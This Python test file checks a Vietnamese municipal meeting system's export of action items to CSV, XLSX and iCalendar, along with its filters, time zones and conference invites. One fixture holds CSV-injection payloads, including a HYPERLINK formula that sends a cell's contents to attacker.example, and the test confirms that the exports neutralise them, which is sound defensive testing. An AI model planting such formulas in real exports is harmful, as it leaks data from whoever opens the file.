"""Action items across conferences as files — CSV, XLSX, iCalendar (a VTODO each, or
all-day events) — with the filters of the dashboard, read back with the readers' own
libraries; and a conference as an iCalendar invite."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import icalendar
import openpyxl
import pytest

from tests.server.minutes.minutes_env import Env

pytestmark = pytest.mark.asyncio(loop_scope="module")
CONF = "giao-ban-t12"
LATER = "giao-ban-t1"
HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
ACTIONS = (("nv-1", "Rà soát hộ nghèo, cận nghèo cuối năm", ("P-AN",), 5),
           ("nv-2", "Báo cáo giải ngân vốn đầu tư công", ("P-BINH", "X-CHAU"), 12),
           ("nv-3", "Tổng kết phong trào thi đua “Dân vận khéo”", ("P-AN", "X-DUNG"), 30),
           ("nv-4", "Kiểm kê tài sản công", ("X-CHAU",), 40))


def csv_rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


async def dashboard(env: Env, **params: str) -> list[dict[str, Any]]:
    role = params.pop("role", "secretary")
    token = params.pop("token", None)
    data = await env.call("GET", "/actions", params=params, **({"token": token} if token else {"role": role}))
    return [r for r in data["actions"] if r["conference_id"] in (CONF, LATER)]


async def test_a_conference_with_action_items_in_every_status(env: Env) -> None:
    await env.create(CONF)
    await env.hold(CONF, actions=ACTIONS)
    await env.as_site(CONF, "P-BINH", "post_progress", action_id="nv-2", text="Đã giải ngân 45% kế hoạch vốn",
                      percent=45)
    await env.as_site(CONF, "X-CHAU", "post_progress", action_id="nv-4", text="Đã kiểm kê xong", status="done")
    await env.command(CONF, "confirm_action_done", role="chair", action_id="nv-4")
    await env.command(CONF, "cancel_action", role="secretary", action_id="nv-3", reason="Gộp vào tổng kết năm")
    env.advance(timedelta(days=8))   # nv-1 (due in 5 days) is now overdue
    rows = await dashboard(env)
    assert [(r["action_id"], r["status"], r["overdue"]) for r in rows] == [
        ("nv-1", "open", True), ("nv-2", "in_progress", False), ("nv-3", "cancelled", False), ("nv-4", "done", False)]


async def test_csv_has_the_rows_of_the_dashboard(env: Env) -> None:
    status, headers, body = await env.get("/actions.csv", role="secretary", params={"conference": CONF})
    assert status == 200 and headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"].startswith(f'attachment; filename="nhiem-vu-{CONF}-')
    rows = csv_rows(body)
    assert [r["Mã nhiệm vụ"] for r in rows] == ["nv-1", "nv-2", "nv-3", "nv-4"]
    nv2 = rows[1]
    assert nv2["Nhiệm vụ"] == "Báo cáo giải ngân vốn đầu tư công" and nv2["Trạng thái"] == "Đang thực hiện"
    assert nv2["Đơn vị thực hiện"] == "Phường Bình Minh; Xã Châu Sơn" and nv2["Mã đơn vị thực hiện"] == "P-BINH; X-CHAU"
    assert nv2["Tiến độ gần nhất"] == "Đã giải ngân 45% kế hoạch vốn" and nv2["Tiến độ (%)"] == "45"
    assert nv2["Hạn hoàn thành"] == (env.today() - timedelta(days=8) + timedelta(days=12)).isoformat()
    assert rows[0]["Quá hạn"] == "Có" and rows[3]["Đã xác nhận hoàn thành"] == "Có"
    assert rows[2]["Nhiệm vụ"] == "Tổng kết phong trào thi đua “Dân vận khéo”"
    _, _, english = await env.get("/actions.csv", role="secretary", params={"conference": CONF, "lang": "en"})
    assert csv_rows(english)[1]["Status"] == "In progress"


async def test_the_filters_are_those_of_the_dashboard(env: Env) -> None:
    for params in ({"status": "open"}, {"overdue": "1"}, {"site": "X-CHAU"}, {"site": "P-AN", "status": "cancelled"}):
        expected = [r["action_id"] for r in await dashboard(env, **params)]
        _, _, body = await env.get("/actions.csv", role="secretary", params={"conference": CONF, **params})
        assert [r["Mã nhiệm vụ"] for r in csv_rows(body)] == expected, params
        assert expected
    # a site sees its own, whatever it asks for
    an = await env.site_token(CONF, "P-AN")
    _, _, body = await env.get("/actions.csv", token=an, params={"site": "X-CHAU", "conference": CONF})
    assert [r["Mã nhiệm vụ"] for r in csv_rows(body)] == ["nv-1", "nv-3"]
    status, code, _ = await env.refused("GET", "/actions.csv", role="secretary", params={"status": "xong"})
    assert (status, code) == (400, "bad_request")
    status, code, _ = await env.refused("GET", "/actions.xlsx")
    assert (status, code) == (401, "unauthorized")


async def test_xlsx_reads_back_with_typed_cells(env: Env) -> None:
    status, headers, body = await env.get("/actions.xlsx", role="chair", params={"conference": CONF})
    assert status == 200
    assert headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ws = openpyxl.load_workbook(io.BytesIO(body)).active
    header = [c.value for c in ws[1]]
    assert header[:4] == ["Mã hội nghị", "Hội nghị", "Mã nhiệm vụ", "Nhiệm vụ"]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]
    assert [r["Mã nhiệm vụ"] for r in rows] == ["nv-1", "nv-2", "nv-3", "nv-4"]
    due = rows[0]["Hạn hoàn thành"]
    assert isinstance(due, datetime) and due.date() == date.fromisoformat((await dashboard(env))[0]["due"])
    assert rows[1]["Tiến độ (%)"] == 45 and isinstance(rows[1]["Cập nhật tiến độ lúc"], datetime)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    assert ws["A2"].fill.fgColor.rgb.endswith("FDE2E1")      # nv-1 is overdue
    assert ws["A3"].fill.fgColor.rgb in ("00000000", None)   # nv-2 is not


async def test_ics_has_a_task_per_due_date(env: Env) -> None:
    status, headers, body = await env.get("/actions.ics", role="secretary", params={"conference": CONF})
    assert status == 200 and headers["Content-Type"] == "text/calendar; charset=utf-8"
    cal = icalendar.Calendar.from_ical(body)
    todos = {str(t["uid"]).split("@")[0].removesuffix(".task"): t for t in cal.walk("VTODO")}
    assert set(todos) == {f"{CONF}.nv-1", f"{CONF}.nv-2", f"{CONF}.nv-3", f"{CONF}.nv-4"}
    rows = {r["action_id"]: r for r in await dashboard(env, conference=CONF)}
    for action_id, todo in todos.items():
        row = rows[action_id.split(".")[1]]
        assert todo.decoded("due") == date.fromisoformat(row["due"]) and str(todo["summary"]) == row["title"]
    assert [str(todos[f"{CONF}.{a}"]["status"]) for a in ("nv-1", "nv-2", "nv-3", "nv-4")] == \
        ["NEEDS-ACTION", "IN-PROCESS", "CANCELLED", "COMPLETED"]
    assert int(todos[f"{CONF}.nv-2"]["percent-complete"]) == 45
    assert "quá hạn" in str(todos[f"{CONF}.nv-1"]["description"])
    _, _, body = await env.get("/actions.ics", role="secretary", params={"conference": CONF, "as": "event"})
    events = list(icalendar.Calendar.from_ical(body).walk("VEVENT"))
    assert len(events) == 4
    # the event copy and the task are two calendar objects: one UID each, never shared
    assert {str(t["uid"]) for t in todos.values()}.isdisjoint(str(e["uid"]) for e in events)
    assert {str(e["uid"]).split("@")[0] for e in events} == {f"{CONF}.nv-{n}.due" for n in range(1, 5)}
    for ev in events:
        start, end = ev.decoded("dtstart"), ev.decoded("dtend")
        assert type(start) is date and end - start == timedelta(days=1)   # all day, on the due date


HOSTILE = ('=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "+84 24 3825 3536", "-1+1", "@SUM(1+1)")


async def test_no_cell_becomes_a_formula(env: Env) -> None:
    """OWASP CSV injection: a site's progress text "=HYPERLINK(...)" (and +, -, @) stays text
    in the CSV (behind an apostrophe) and in the XLSX (a text cell, no formula)."""
    for n, text in enumerate(HOSTILE):
        await env.as_site(CONF, "P-AN", "post_progress", action_id="nv-1", text=text, key=f"tieu-{n}")
        _, _, body = await env.get("/actions.csv", role="secretary", params={"conference": CONF})
        nv1 = csv_rows(body)[0]
        assert nv1["Tiến độ gần nhất"] == "'" + text, text
        _, _, xlsx = await env.get("/actions.xlsx", role="secretary", params={"conference": CONF})
        ws = openpyxl.load_workbook(io.BytesIO(xlsx)).active
        header = [c.value for c in ws[1]]
        cell = ws.cell(row=2, column=header.index("Tiến độ gần nhất") + 1)
        assert cell.value == text and cell.data_type == "s", (text, cell.data_type)
        with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
            assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    assert csv_rows(body)[0]["Nhiệm vụ"] == "Rà soát hộ nghèo, cận nghèo cuối năm"   # plain text untouched


async def test_progress_times_are_hanoi_times(env: Env) -> None:
    rows = {r["action_id"]: r for r in await dashboard(env, conference=CONF)}
    at = datetime.fromisoformat(rows["nv-2"]["updates"][-1]["at"]).astimezone(HANOI)
    _, _, body = await env.get("/actions.csv", role="secretary", params={"conference": CONF})
    assert csv_rows(body)[1]["Cập nhật tiến độ lúc"] == at.isoformat() and at.isoformat().endswith("+07:00")
    _, _, xlsx = await env.get("/actions.xlsx", role="secretary", params={"conference": CONF})
    ws = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    header = [c.value for c in ws[1]]
    shown = ws.cell(row=3, column=header.index("Cập nhật tiến độ lúc") + 1).value
    assert shown == at.replace(tzinfo=None, microsecond=shown.microsecond)   # the wall clock in Hà Nội, not UTC


async def test_a_conference_as_an_invite(env: Env) -> None:
    start = (env.now() + timedelta(days=30)).replace(hour=1, minute=0, second=0, microsecond=0)   # 08:00 in Hanoi
    await env.create(LATER, series="giao-ban-thang", start=start,
                     items=("Báo cáo kết quả tháng 12", "Triển khai nhiệm vụ tháng 1"))
    status, headers, body = await env.get(f"/conferences/{LATER}/invite.ics", role="chair")
    assert status == 200 and headers["Content-Type"] == "text/calendar; charset=utf-8"
    assert headers["Content-Disposition"] == f'attachment; filename="hoi-nghi-{LATER}.ics"'
    assert b"TZID=Asia/Ho_Chi_Minh" in body and b"BEGIN:VTIMEZONE" in body
    cal = icalendar.Calendar.from_ical(body)
    (ev,) = cal.walk("VEVENT")
    assert str(ev["summary"]) == f"Hội nghị giao ban {LATER}"
    assert ev.decoded("dtstart") == start and ev.decoded("dtstart").strftime("%H:%M") == "08:00"
    assert str(ev.decoded("dtstart").tzinfo) == "Asia/Ho_Chi_Minh"
    assert ev.decoded("dtend") - ev.decoded("dtstart") == timedelta(hours=3)
    assert str(ev["location"]) == "Hội trường UBND Thành phố"
    description = str(ev["description"])
    assert "1. Báo cáo kết quả tháng 12 (Văn phòng UBND, 20 phút)" in description
    assert "2. Triển khai nhiệm vụ tháng 1 (40 phút)" in description
    assert str(ev["url"]).endswith(f"/c/{LATER}/chair") and str(ev["status"]) == "CONFIRMED"
    # an invited site gets it with its join link; nobody else
    token = await env.site_token(LATER, "P-AN")
    status, _, body = await env.get(f"/conferences/{LATER}/invite.ics", params={"token": token})
    (ev,) = icalendar.Calendar.from_ical(body).walk("VEVENT")
    assert status == 200 and str(ev["url"]).endswith(f"/join/{token}")
    status, code, _ = await env.refused("GET", f"/conferences/{LATER}/invite.ics", role="norole")
    assert (status, code) == (403, "forbidden")
